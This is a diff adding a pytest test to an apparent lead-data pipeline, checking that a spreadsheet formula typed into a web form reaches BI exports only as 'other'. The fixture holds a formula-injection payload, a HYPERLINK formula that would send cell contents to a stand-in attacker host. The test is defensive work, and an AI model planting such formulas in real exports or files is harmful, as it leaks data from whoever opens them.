@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import subprocess
@@ -15,6 +16,16 @@ pytestmark = pytest.mark.slow
 LEADWERK = Path(sys.executable).with_name("leadwerk")
 PEOPLE = 150
 BROKEN_FILE = "crm_exports/hubspot/export_from_the_new_tool.csv"
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+HOSTILE_SUBMISSION = {
+    "submission_id": "sub_hostile_1", "form_type": FORMULA, "submitted_at": "2025-12-01T18:49:53+01:00",
+    "page_url": "https://www.leadwerk-demo.de/x", "utm": {"source": None, "medium": None, "campaign": None},
+    "fields": {"salutation": "Frau", "first_name": "Mallory", "last_name": "Formel", "email": "mallory@example.org",
+               "phone": None, "company": None, "job_title": None, "postcode": "10115", "city": "Berlin",
+               "country": "Deutschland", "message": None},
+    "consent": {"email_marketing": False, "phone_marketing": False, "text_version": "einwilligung-v3-2024-05"},
+    "double_opt_in": None,
+}
 
 
 def _run(root: Path, *flags: str) -> subprocess.CompletedProcess:
@@ -39,6 +50,9 @@ def good_run(tmp_path_factory, dbt_manifest) -> tuple[Path, subprocess.Completed
 
     root = tmp_path_factory.mktemp("good") / "data"
     generate_landing(root / "landing", people=PEOPLE, seed=11)
+    (root / "landing" / "web_forms" / "submissions_hostile.jsonl").write_text(
+        json.dumps(HOSTILE_SUBMISSION) + "\n", encoding="utf-8"
+    )
     return root, _run(root)
 
 
@@ -52,6 +66,24 @@ def test_a_clean_run_exits_0_with_one_line_per_step_and_a_log_file(good_run):
     assert " of 184 START" not in result.stdout and "Traceback" not in result.stdout + result.stderr
     log = next((root / "logs").glob("run-*.log")).read_text(encoding="utf-8")
     assert "START" in log and "STEP_SUCCESS" in log  # dbt's own lines and every Dagster event
+
+
+def test_a_formula_typed_into_a_web_form_reaches_bi_only_as_other(good_run):
+    import duckdb
+    import polars as pl
+
+    root, _ = good_run
+    serving = root / "serving"
+    with duckdb.connect(str(serving / "leadwerk.duckdb"), read_only=True) as conn:
+        assert conn.execute(
+            "select count(*) from marts.mart_source_performance where source_detail = ?", [FORMULA]
+        ).fetchone() == (1,)
+        assert conn.execute(
+            "select count(*) from bi.mart_source_performance where source_detail = 'other'"
+        ).fetchone()[0] >= 1
+    for path in (serving / "parquet" / "bi").glob("*.parquet"):
+        text = pl.read_parquet(path).select(pl.all().cast(pl.String)).write_csv()
+        assert "HYPERLINK" not in text and "Mallory" not in text, path.name
 
 
 def test_a_run_that_rejects_a_file_whole_exits_3_and_names_it(good_run):
